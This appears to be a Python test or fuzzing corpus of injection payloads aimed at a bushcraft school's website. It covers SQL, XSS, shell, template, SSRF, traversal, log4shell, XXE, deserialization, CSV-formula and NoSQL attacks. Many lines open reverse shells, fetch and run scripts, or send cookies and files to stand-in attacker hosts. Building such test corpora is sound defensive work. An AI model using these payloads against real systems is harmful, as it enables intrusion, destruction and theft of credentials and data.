#!/usr/bin/env python3
"""Attack corpus for the bushcraft school site. Seed 35202. Stdlib only.
Line format in the blocks below: "<class> ~~ <value>".  Tokens <<LF>>, <<CR>>, <<TAB>>
stand for raw LF, CR and TAB characters."""
import json, os, random

SEED = 35202
HERE = os.path.dirname(os.path.abspath(__file__))

def parse(block):
    out = []
    for raw in block.strip("\n").split("\n"):
        raw = raw.strip()
        if not raw:
            continue
        cls, val = raw.split(" ~~ ", 1)
        val = val.replace("<<LF>>", "\n").replace("<<CR>>", "\r").replace("<<TAB>>", "\t")
        out.append((cls.strip(), val))
    return out

LIT = {}

LIT["sqli"] = parse(r"""
union ~~ bow drill' UNION SELECT username, password_hash, NULL FROM instructors-- -
union ~~ Fire Craft%' union all select email,phone,null,null from bookings where '1'='1
union ~~ 0 UNION SELECT table_name,2,3 FROM information_schema.tables WHERE table_schema=database()#
union ~~ 44817) UNION SELECT card_last4, expiry FROM payments--
union ~~ foraging')/**/UnIoN/**/SeLeCt/**/group_concat(email),2/**/from/**/students--+
union ~~ -1 union select 1,concat(login,0x3a,pass),3,4 from staff_users limit 1 offset 0--
union ~~ knife' UNION ALL SELECT NULL,NULL,version()-- x
union ~~ BK-20931' UnIoN(SeLeCt(api_key),(null)FROM(settings))-- -
union ~~ wild garlic' union select null,name,sql from sqlite_master--
union ~~ 1 uNiOn%0AsElEcT 1,current_user,3--
union ~~ spoon carving' /*!50000UNION*/ /*!50000SELECT*/ 1,user(),3-- -
union ~~ ') UNION SELECT column_name,NULL FROM information_schema.columns WHERE table_name='waivers'--
boolean ~~ Siobhán' OR '1'='1
boolean ~~ ' or 1=1 limit 1 -- my booking ref
boolean ~~ 2024-BC-0113' AND 1=1 AND 'x'='x
boolean ~~ 5501 OR 2>1
boolean ~~ admin'--
boolean ~~ instructor@bushcraft.test'/**/or/**/'a'<>'b
boolean ~~ ' OR ASCII(SUBSTRING((SELECT password FROM users WHERE id=1),1,1))>77-- 
boolean ~~ 1' AND (SELECT COUNT(*) FROM bookings)>100 AND '1'='1
boolean ~~ Mora' || '1'='1
boolean ~~ x' oR 'camp'LIKE'camp
boolean ~~ 7 AND substr((select pin from gate_codes limit 1),1,1)='1'
boolean ~~ hazel' AND EXISTS(SELECT 1 FROM admins WHERE username='root')-- -
boolean ~~ ' OR true-- 
boolean ~~ 1)) OR ((1=1
boolean ~~ tarp" OR ""="
boolean ~~ 3 and 1 in (select min(name) from sysobjects where xtype='U')
boolean ~~ course_id=7 or 0x50=0x50
time ~~ bow drill' AND SLEEP(5)-- -
time ~~ 1' AND (SELECT 4412 FROM (SELECT(SLEEP(7)))abc)-- x
time ~~ ember'; WAITFOR DELAY '0:0:6'--
time ~~ 1;SELECT pg_sleep(8)--
time ~~ ' || (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)--
time ~~ ' AND BENCHMARK(9000000,SHA1('tinder'))#
time ~~ 12 AND IF(ORD(MID(DATABASE(),1,1))>100,SLEEP(4),0)
time ~~ x' AND 1=(SELECT 1 FROM PG_SLEEP(6))--
time ~~ Kai' and randomblob(300000000) and 'a'='a
time ~~ '+(select*from(select(sleep(10)))a)+'
time ~~ 1 AND DBMS_PIPE.RECEIVE_MESSAGE('x',9)=1
error ~~ ' AND extractvalue(1,concat(0x7e,(select password from users limit 1)))-- -
error ~~ 1 AND updatexml(null,concat(0x3a,(SELECT @@version)),null)
error ~~ ' AND 1=CONVERT(int,(SELECT TOP 1 email FROM customers))--
error ~~ nettle' AND CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)=1--
error ~~ 1 and (select 1 from(select count(*),concat((select user()),floor(rand(0)*2))x from information_schema.tables group by x)y)
error ~~ ' AND 1=ctxsys.drithsx.sn(1,(select user from dual))--
error ~~ ' and exp(~(select * from (select current_user())x))-- -
stacked ~~ 1042; DROP TABLE bookings;--
stacked ~~ Great course!'); DELETE FROM reviews WHERE rating<5;--
stacked ~~ '; UPDATE users SET role='admin' WHERE email='me@attacker.example'--
stacked ~~ 9; INSERT INTO instructors(name,email,pw) VALUES('x','x@attacker.example','h4sh')--
stacked ~~ x'; EXEC xp_cmdshell 'powershell -c iwr http://203.0.113.14/b.ps1|iex'--
stacked ~~ 1; COPY (SELECT '') TO PROGRAM 'curl http://198.51.100.7/p|sh';--
stacked ~~ '; ATTACH DATABASE '/var/www/html/shell.php' AS pwn; CREATE TABLE pwn.t (x text); INSERT INTO pwn.t VALUES ('<?php system($_GET[c]); ?>');--
stacked ~~ 5;TRUNCATE TABLE waivers
outfile ~~ ' UNION SELECT '<?php passthru($_REQUEST["q"]);?>' INTO OUTFILE '/var/www/uploads/kit.php'-- -
outfile ~~ ' union select load_file('/etc/passwd'),2-- -
outfile ~~ 1;select lo_import('/etc/shadow')--
oob ~~ '; exec master..xp_dirtree '\\db.attacker.example\share'--
oob ~~ ' UNION SELECT LOAD_FILE(CONCAT('\\\\',(SELECT password FROM users LIMIT 1),'.x.attacker.example\\a'))-- -
oob ~~ ' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual))--
orderby ~~ date,(CASE WHEN (SELECT substr(pw,1,1) FROM admin)='a' THEN price ELSE date END)
orderby ~~ price desc, (select sleep(3))
orderby ~~ 1,extractvalue(0x0a,concat(0x0a,(select database())))
orderby ~~ name ASC; SELECT pg_sleep(5)--
orderby ~~ (SELECT 1 FROM bookings WHERE 1=1 AND IF(1=1,1,(SELECT 1 UNION SELECT 2)))
encoded ~~ %27%20OR%201%3D1--%20
encoded ~~ %2527%2520UNION%2520SELECT%2520password%2520FROM%2520users--
encoded ~~ ＇ ＯＲ １＝１ －－
encoded ~~ %u0027%u0020or%u00201=1--
encoded ~~ &#39; OR &#39;1&#39;=&#39;1
encoded ~~ kit'%09or%09'x'%09=%09'x
encoded ~~ 1%C0%A7%20OR%201=1--
second-order ~~ WoodsmokeWill'-- 
second-order ~~ O'Brien'); UPDATE users SET password='x' WHERE username='admin'--
json ~~ {"course":"fire' OR '1'='1","qty":2}
""")

LIT["xss"] = parse(r"""
script ~~ Great course! <script>fetch('https://attacker.example/c?'+document.cookie)</script>
script ~~ <ScRiPt>new Image().src="//203.0.113.9/?k="+localStorage.getItem('token')</sCrIpT>
script ~~ Bannock recipe <script src=//attacker.example/x.js></script>
script ~~ </textarea><script>alert(document.domain)</script>
script ~~ "><script>location='https://attacker.example/steal?'+document.cookie</script>
script ~~ <script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8nK2RvY3VtZW50LmNvb2tpZSk='))</script>
script ~~ </title><script>document.forms[0].action='https://attacker.example/login'</script>
script ~~ <script type="text/javascript">/*fire log*/top['al'+'ert'](1)</script>
event ~~ <img src=x onerror=alert(document.cookie)>
event ~~ my first ember <img src="ember.jpg" onerror="this.src='//attacker.example/?c='+document.cookie">
event ~~ <svg onload=fetch('//attacker.example/'+btoa(document.cookie))>
event ~~ <body onload=alert`1`>
event ~~ <details open ontoggle=confirm(document.domain)>
event ~~ <input autofocus onfocus=alert(origin) value="kit list">
event ~~ <video><source onerror="javascript:alert(1)"></video>
event ~~ <div onmouseover="document.location='//attacker.example/'+document.cookie">hover for photos</div>
event ~~ <marquee onstart=alert(1)>wild garlic season!</marquee>
event ~~ <audio src=1 onerror=import('//attacker.example/m.js')>
event ~~ <iMg SrC=1 oNeRrOr=prompt(8)>
event ~~ <svg/onload=eval(location.hash.slice(1))>
event ~~ <img src=x onerror="window['ev'+'al'](String.fromCharCode(97,108,101,114,116,40,49,41))">
event ~~ <svg><animate onbegin=alert(1) attributeName=x dur=1s>
event ~~ <select autofocus onfocus=alert(1)><option>Fire Craft</option></select>
event ~~ <x contenteditable onblur=alert(1)>edit my review</x>
event ~~ <body onpageshow=alert(document.cookie)>
event ~~ <img src=x:x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>
event ~~ <style onload=alert(1)></style>
event ~~ <form><button formaction=javascript:alert(1)>Book now</button></form>
attr-breakout ~~ " onmouseover="alert(1)" x="
attr-breakout ~~ Tom' autofocus onfocus='fetch(`//attacker.example/${document.cookie}`)
attr-breakout ~~ x" style="position:fixed;top:0;left:0;width:100%;height:100%" onmouseenter="alert(1)
attr-breakout ~~ "><img src=1 onerror=alert(1)>
attr-breakout ~~ '><svg onload=alert(1)>
attr-breakout ~~ tarp.jpg" onload="alert(document.domain)
js-uri ~~ javascript:alert(document.cookie)
js-uri ~~ JaVaScRiPt:fetch('//attacker.example/?'+document.cookie)
js-uri ~~ java&#x09;script:alert(1)
js-uri ~~ &#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)
js-uri ~~ [photos of my shelter](javascript:alert(document.cookie))
js-uri ~~ <a href="jav&#x0A;ascript:alert(1)">kit list pdf</a>
js-uri ~~ <iframe src="javascript:parent.alert(1)"></iframe>
js-uri ~~ data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
js-uri ~~ <object data="data:text/html,<script>alert(1)</script>"></object>
js-uri ~~ <embed src="javascript:alert(1)">
js-uri ~~ <a href=" &#14; javascript:alert(1)">map</a>
js-context ~~ ';alert(String.fromCharCode(88,83,83));//
js-context ~~ </script><script>alert(1)</script>
js-context ~~ \";alert(document.cookie);//
js-context ~~ ${alert(document.domain)}
js-context ~~ '-alert(1)-'
js-context ~~ "};fetch('//attacker.example/'+document.cookie);var a={"
encoded ~~ %3Cscript%3Ealert(1)%3C%2Fscript%3E
encoded ~~ %253Csvg%2520onload%253Dalert(1)%253E
encoded ~~ &lt;img src=x onerror=alert(1)&gt;
encoded ~~ \u003cimg src=x onerror=alert(1)\u003e
encoded ~~ ＜script＞alert(1)＜/script＞
encoded ~~ %C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE
encoded ~~ <scr<script>ipt>alert(1)</scr</script>ipt>
encoded ~~ <svg><script>&#x61;lert(1)</script></svg>
encoded ~~ \x3cimg src=x onerror=alert(1)\x3e
dom ~~ #<img src=x onerror=alert(1)>
dom ~~ <iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>
dom ~~ <base href="https://attacker.example/">
dom ~~ <meta http-equiv="refresh" content="0;url=https://attacker.example/phish">
dom ~~ <form action="https://attacker.example/collect"><input name="password" placeholder="Re-enter password"></form>
mxss ~~ <noscript><p title="</noscript><img src=x onerror=alert(1)>">
mxss ~~ <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
mxss ~~ <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
csti ~~ {{constructor.constructor('alert(1)')()}}
csti ~~ <div ng-app ng-csp>{{$on.constructor('fetch("//attacker.example/"+document.cookie)')()}}</div>
csti ~~ <div v-html="'<img src=x onerror=alert(1)>'"></div>
""")

LIT["cmdi"] = parse(r"""
separator ~~ kit.pdf; cat /etc/passwd
separator ~~ firelog.csv && id
separator ~~ tarp.jpg | nc 203.0.113.5 4444 -e /bin/sh
separator ~~ report.txt || wget -qO- http://attacker.example/s.sh | sh
separator ~~ bannock;curl -s http://198.51.100.23/x|bash
separator ~~ ember.png%0Aid
separator ~~ photo.jpg<<LF>>bash -i >& /dev/tcp/203.0.113.40/9001 0>&1
separator ~~ 127.0.0.1; ls -la /var/www
separator ~~ 8.8.8.8 & whoami
separator ~~ shelter.jpg;rm -rf /var/www/html/uploads/*
separator ~~ hazel & ping -n 5 attacker.example &
separator ~~ kit;uname${IFS}-a
separator ~~ birch|cat</etc/shadow
separator ~~ x;sleep 10;
separator ~~ log.txt%3Bcat%20%2Fetc%2Fhosts
separator ~~ knots.md%26%26curl%20attacker.example%2Fk
separator ~~ a.jpg;{cat,/etc/passwd}
separator ~~ data.csv; echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjcvNDQ0IDA+JjE= | base64 -d | sh
separator ~~ list.txt;python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.9",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
separator ~~ x; perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(80,inet_aton("203.0.113.2")));open(STDIN,">&S");exec("/bin/sh -i")'
separator ~~ ; php -r '$s=fsockopen("203.0.113.61",1234);exec("/bin/sh -i <&3 >&3 2>&3");'
separator ~~ | powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')"
separator ~~ & type C:\Windows\win.ini
separator ~~ | dir c:\ & net user
separator ~~ review.txt;echo '* * * * * root curl attacker.example/c|sh' >> /etc/crontab
separator ~~ photo.jpg;chmod +s /bin/bash
separator ~~ a;echo ssh-ed25519 AAAAFAKEKEYFAKEKEY attacker@attacker.example>>~/.ssh/authorized_keys
separator ~~ fire.csv;/???/??t /???/p??s??
separator ~~ x;c'a't /e't'c/pa's'swd
separator ~~ y;c\at /et\c/pas\swd
separator ~~ z;$(printf 'cat /etc/passwd')
separator ~~ x;ca$@t /etc/passwd
separator ~~ x;cat${IFS%??}/etc/passwd
separator ~~ log|tac</etc/group
separator ~~ w;X=$'\x63\x61\x74';$X /etc/passwd
subshell ~~ $(curl http://attacker.example/$(whoami))
subshell ~~ `id`
subshell ~~ Spoon Carving $(sleep 8)
subshell ~~ My name is `wget -O /tmp/.x http://198.51.100.4/x && sh /tmp/.x`
subshell ~~ $(nslookup $(hostname).dns.attacker.example)
subshell ~~ ${IFS}$(cat${IFS}/etc/passwd)
subshell ~~ "; $(base64 -d <<< Y3VybCBhdHRhY2tlci5leGFtcGxl | sh) #
subshell ~~ ember_$(id -u).jpg
subshell ~~ <(curl -s attacker.example/r)
subshell ~~ foraging.pdf`dig +short txt x.attacker.example|sh`
argument ~~ --output=/var/www/html/s.php http://attacker.example/s.txt
argument ~~ -o ProxyCommand=sh -c 'curl attacker.example/p|sh' localhost
argument ~~ --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh
argument ~~ -exec sh -c 'id > /tmp/pwned' ;
argument ~~ --use-compress-program='sh -c id'
argument ~~ -OProxyCommand="nc 203.0.113.8 22"
argument ~~ --config=http://attacker.example/wgetrc
argument ~~ -X/var/www/html/log.php -OQueueDirectory=/tmp
imagemagick ~~ push graphic-context<<LF>>viewbox 0 0 640 480<<LF>>fill 'url(https://attacker.example/x.jpg"|curl "attacker.example/i)'<<LF>>pop graphic-context
imagemagick ~~ |ls -la > /tmp/out
newline ~~ ember.jpg<<CR>><<LF>>curl attacker.example/n
newline ~~ bivvy%0d%0auname%20-a
windows ~~ kit.pdf & certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\a.exe & %TEMP%\a.exe
windows ~~ x | cmd /c "whoami /all"
windows ~~ report.docx && powershell -enc SQBFAFgAIAAoAGkAdwByACAAYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQApAA==
windows ~~ ;%COMSPEC% /c ver
windows ~~ x & rundll32 \\203.0.113.3\share\p.dll,Entry
shellshock ~~ () { :; }; /bin/bash -c 'curl http://attacker.example/ss'
shellshock ~~ () { _; } >_[$($())] { echo; id; }
""")

LIT["traversal"] = parse(r"""
dotdot ~~ ../../../../etc/passwd
dotdot ~~ kit-lists/../../../../../etc/shadow
dotdot ~~ ../../../var/www/bushcraft/.env
dotdot ~~ photos/2024/../../../../../../proc/self/environ
dotdot ~~ ....//....//....//etc/passwd
dotdot ~~ ..././..././..././etc/hosts
dotdot ~~ ../../../../home/ubuntu/.ssh/id_rsa
dotdot ~~ ../config/database.yml
dotdot ~~ ../../../../../../../../../../etc/passwd%00.pdf
dotdot ~~ waivers/../../app/settings.py
dotdot ~~ ../../../root/.bash_history
dotdot ~~ uploads/../../../../var/log/nginx/access.log
dotdot ~~ ..//..//..//..//etc//passwd
dotdot ~~ /static/../../../../../proc/self/cmdline
dotdot ~~ ../../../etc/passwd\u0000kitlist.pdf
dotdot ~~ ../../../../usr/local/etc/php/php.ini
dotdot ~~ firelog.csv/../../../../.git/config
windows ~~ ..\..\..\..\windows\win.ini
windows ~~ reports\..\..\..\inetpub\wwwroot\web.config
windows ~~ ..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts
windows ~~ C:\Windows\System32\config\SAM
windows ~~ ..\/..\/..\/windows/win.ini
windows ~~ \\?\C:\inetpub\wwwroot\web.config
encoded ~~ %2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
encoded ~~ %252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd
encoded ~~ ..%c0%af..%c0%af..%c0%afetc%c0%afpasswd
encoded ~~ %c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
encoded ~~ ..%e0%80%af..%e0%80%afetc%e0%80%afshadow
encoded ~~ %u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd
encoded ~~ ．．／．．／．．／etc／passwd
encoded ~~ ..%2f..%2f..%2fvar%2fwww%2fbushcraft%2f.env
encoded ~~ .%2e/.%2e/.%2e/.%2e/etc/passwd
encoded ~~ %2e%2e%5c%2e%2e%5cwindows%5cwin.ini
encoded ~~ ..%252f..%252f..%252fetc%252fhosts
encoded ~~ ..%c1%9c..%c1%9cwindows%c1%9cwin.ini
absolute ~~ /etc/passwd
absolute ~~ /var/run/secrets/kubernetes.io/serviceaccount/token
absolute ~~ file:///etc/passwd
absolute ~~ /root/.aws/credentials
wrapper ~~ php://filter/convert.base64-encode/resource=../config.php
wrapper ~~ php://filter/read=string.rot13/resource=index.php
wrapper ~~ phar://uploads/avatars/me.jpg/test.txt
wrapper ~~ zip://uploads/kit.zip%23shell.php
wrapper ~~ expect://id
wrapper ~~ data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==
wrapper ~~ jar:file:///opt/app/lib/app.jar!/WEB-INF/web.xml
""")

LIT["ssrf"] = parse(r"""
metadata ~~ http://169.254.169.254/latest/meta-data/iam/security-credentials/
metadata ~~ http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token
metadata ~~ http://metadata.google.internal/computeMetadata/v1/?recursive=true
metadata ~~ http://169.254.169.254/metadata/instance?api-version=2021-02-01
metadata ~~ http://[fd00:ec2::254]/latest/meta-data/
metadata ~~ http://100.100.100.200/latest/meta-data/
metadata ~~ http://169.254.170.2/v2/credentials
metadata ~~ http://instance-data/latest/user-data
loopback ~~ http://127.0.0.1:6379/
loopback ~~ http://localhost:8080/admin/bookings/export
loopback ~~ http://127.0.0.1/server-status
loopback ~~ http://localhost:9200/_cat/indices
loopback ~~ https://localhost:2379/v2/keys/?recursive=true
loopback ~~ http://0.0.0.0:8500/v1/agent/self
loopback ~~ http://[::1]:22/
loopback ~~ http://127.1/admin
loopback ~~ http://0/
internal ~~ http://10.0.0.12:8080/manager/html
internal ~~ http://192.168.1.1/cgi-bin/luci
internal ~~ http://172.17.0.1:2375/containers/json
internal ~~ http://kubernetes.default.svc/api/v1/namespaces/default/secrets
internal ~~ http://payments-internal:5000/refund?booking=all
internal ~~ http://db:5432/
internal ~~ http://10.10.1.5:15672/api/users
alt-ip ~~ http://2130706433/
alt-ip ~~ http://0x7f000001/admin
alt-ip ~~ http://0177.0.0.1/
alt-ip ~~ http://2852039166/latest/meta-data/
alt-ip ~~ http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/
alt-ip ~~ http://[::ffff:127.0.0.1]:8080/
alt-ip ~~ http://[0:0:0:0:0:ffff:a9fe:a9fe]/
alt-ip ~~ http://①②⑦.⓪.⓪.①/
alt-ip ~~ http://127.0.0.1.nip.io/admin
alt-ip ~~ http://0251.0376.0251.0376/
confusion ~~ http://photos.example.com@127.0.0.1/
confusion ~~ http://127.0.0.1#@photos.example.com/
confusion ~~ https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/
confusion ~~ http://localtest.attacker.example/ (resolves to 127.0.0.1)
confusion ~~ http://127.0.0.1%2523@calendar.example.com/feeds/x.ics
confusion ~~ http:/\/\127.0.0.1:8080
confusion ~~ http://attacker.example\@localhost/
scheme ~~ gopher://127.0.0.1:6379/_SET%20x%20%22%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%3F%3E%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fwww%2Fhtml%0D%0ASAVE
scheme ~~ gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E
scheme ~~ dict://127.0.0.1:11211/stats
scheme ~~ file:///proc/self/environ
scheme ~~ ldap://127.0.0.1:389/%0astats
scheme ~~ tftp://198.51.100.3:69/kit
scheme ~~ netdoc:///etc/passwd
embedded ~~ Calendar feed URL: http://169.254.169.254/latest/user-data
embedded ~~ ![my shelter](http://127.0.0.1:8000/internal/users.json)
""")

LIT["code"] = parse(r"""
ssti-jinja ~~ Hi {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}
ssti-jinja ~~ {{ cycler.__init__.__globals__.os.popen('curl attacker.example/j|sh').read() }}
ssti-jinja ~~ {{ ''.__class__.__mro__[1].__subclasses__() }}
ssti-jinja ~~ Your booking {{ config.items() }} is confirmed
ssti-jinja ~~ {% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}
ssti-jinja ~~ {{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}
ssti-jinja ~~ {{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f') }}
ssti-jinja ~~ {{ namespace.__init__.__globals__.os.environ }}
ssti-jinja ~~ {{7*'7'}} {{ get_flashed_messages.__globals__.current_app.config }}
ssti-twig ~~ {{ _self.env.registerUndefinedFilterCallback("exec") }}{{ _self.env.getFilter("id") }}
ssti-twig ~~ {{ ['id']|filter('system') }}
ssti-twig ~~ {{ ['cat /etc/passwd']|map('passthru')|join }}
ssti-freemarker ~~ <#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }
ssti-freemarker ~~ ${"freemarker.template.utility.Execute"?new()("curl attacker.example")}
ssti-velocity ~~ #set($r=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))$r
ssti-smarty ~~ {system('cat /etc/passwd')}
ssti-smarty ~~ {php}echo `id`;{/php}
ssti-erb ~~ <%= `cat /etc/passwd` %>
ssti-erb ~~ Dear <%= system("curl attacker.example/e|sh") %>,
ssti-erb ~~ <%= File.open('/etc/passwd').read %>
ssti-mako ~~ ${self.module.cache.util.os.system("id")}
ssti-mako ~~ <% import os %>${os.popen('whoami').read()}
ssti-handlebars ~~ {{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return process.mainModule.require('child_process').execSync('id');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
ssti-pug ~~ #{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('curl attacker.example/p')}()}
ssti-nunjucks ~~ {{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}
ssti-thymeleaf ~~ __${T(java.lang.Runtime).getRuntime().exec('id')}__::.x
ssti-tornado ~~ {% import os %}{{ os.popen("id").read() }}
ssti-razor ~~ @System.Diagnostics.Process.Start("cmd.exe","/c whoami")
el-spel ~~ #{T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}
el-spel ~~ ${T(java.lang.System).getenv()}
el-spel ~~ *{new java.lang.ProcessBuilder({'sh','-c','id'}).start()}
el-ognl ~~ %{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}
el-ognl ~~ ${#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('id')}
el-jsp ~~ ${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}
el-mvel ~~ Runtime.getRuntime().exec("touch /tmp/x")
log4shell ~~ ${jndi:ldap://attacker.example:1389/Exploit}
log4shell ~~ Great weekend! ${jndi:rmi://203.0.113.77:1099/obj}
log4shell ~~ ${${lower:j}ndi:${lower:l}dap://x.attacker.example/a}
log4shell ~~ ${${::-j}${::-n}${::-d}${::-i}:${::-d}${::-n}${::-s}://${env:USER}.attacker.example}
log4shell ~~ ${jndi:dns://${sys:java.version}.dns.attacker.example}
log4shell ~~ ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.12/k}
log4shell ~~ ${j${upper:n}di:ldaps://attacker.example/z}
log4shell ~~ %24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fu%7D
eval-js ~~ require('child_process').exec('curl attacker.example/n|sh')
eval-js ~~ process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')
eval-js ~~ 1;this.constructor.constructor('return process')().exit()
eval-php ~~ <?php system($_GET['c']); ?>
eval-php ~~ <?=`$_POST[x]`?>
eval-php ~~ ';phpinfo();//
eval-php ~~ ${@eval(base64_decode($_POST[z]))}
eval-php ~~ assert("system('id')")
eval-python ~~ __import__('os').system('id')
eval-python ~~ eval(compile("import socket;socket.create_connection(('203.0.113.6',9))",'x','exec'))
eval-python ~~ ().__class__.__bases__[0].__subclasses__()[59]()._module.__builtins__['open']('/etc/passwd').read()
eval-ruby ~~ #{`id`}
eval-ruby ~~ Kernel.exec("curl attacker.example/r")
proto-pollution ~~ {"__proto__":{"isAdmin":true}}
proto-pollution ~~ {"constructor":{"prototype":{"role":"instructor"}}}
proto-pollution ~~ __proto__[outputFunctionName]=_tmp1;global.process.mainModule.require('child_process').execSync('id');var __tmp2
proto-pollution ~~ {"kit":{"tarp":1},"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require('child_process').execSync('id').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}
proto-pollution ~~ constructor[prototype][sourceURL]=\u000areturn process.mainModule.require('child_process').execSync('id')
csv-formula ~~ =cmd|' /C calc'!A0
csv-formula ~~ =HYPERLINK("https://attacker.example/?d="&A2&B2,"Click for kit list")
csv-formula ~~ +SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/x)'!A0
csv-formula ~~ -2+3+cmd|' /C notepad'!'A1'
csv-formula ~~ @SUM(1+1)*cmd|'/c mshta http://attacker.example/h.hta'!A1
csv-formula ~~ =IMPORTXML(CONCAT("https://attacker.example/?v=",A1:A20),"//a")
csv-formula ~~ Aisling;2024-05-11;=WEBSERVICE("https://attacker.example/"&C2)
csv-formula ~~ DDE("cmd";"/C calc";"!A0")A0
xxe ~~ <?xml version="1.0"?><!DOCTYPE kit [<!ENTITY x SYSTEM "file:///etc/passwd">]><kit><item>&x;</item></kit>
xxe ~~ <!DOCTYPE r [<!ENTITY % d SYSTEM "http://attacker.example/evil.dtd"> %d;]><r/>
xxe ~~ <?xml version="1.0"?><!DOCTYPE gpx [<!ENTITY t SYSTEM "http://169.254.169.254/latest/meta-data/">]><gpx><name>&t;</name></gpx>
xxe ~~ <!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><x>&c;&c;&c;&c;</x>
xxe ~~ <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/hostname"/>
xxe ~~ <svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE svg [<!ENTITY f SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]><text>&f;</text></svg>
deser-php ~~ O:8:"Kitlist":1:{s:4:"file";s:15:"/etc/passwd";}
deser-python ~~ gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==
deser-yaml ~~ !!python/object/apply:os.system ["curl attacker.example/y|sh"]
deser-yaml ~~ !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/yaml.jar"]]]]
deser-json ~~ {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example:1389/f","autoCommit":true}
deser-dotnet ~~ {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"},"MethodParameters":{"$type":"System.Collections.ArrayList","$values":["cmd","/c calc"]}}
""")

LIT["nosqli"] = parse(r"""
operator ~~ {"email": "admin@bushcraft.test", "password": {"$ne": null}}
operator ~~ {"username": {"$gt": ""}, "password": {"$gt": ""}}
operator ~~ password[$ne]=x
operator ~~ username[$regex]=^adm&password[$exists]=true
operator ~~ {"booking_ref": {"$regex": "^BK-.*"}}
operator ~~ {"course": "Fire Craft", "price": {"$lt": 0}}
operator ~~ {"$or": [{"role": "admin"}, {"role": {"$exists": false}}]}
operator ~~ email[$in][]=admin@bushcraft.test&email[$in][]=sam@bushcraft.test
operator ~~ {"token": {"$nin": ["x"]}}
operator ~~ {"password": {"$regex": "^a.{7}$"}}
operator ~~ login[$gt]=&pass[$gt]=
where ~~ {"$where": "sleep(5000) || true"}
where ~~ '; return this.password.match(/^a/) && sleep(3000); var x='
where ~~ {"$where": "this.role == 'admin' || '1'=='1'"}
where ~~ 1'; while(true){}; var y='
where ~~ {"$expr": {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}}
where ~~ ' || 1==1//
where ~~ a'||this.constructor.constructor('return process')().env.SECRET||'
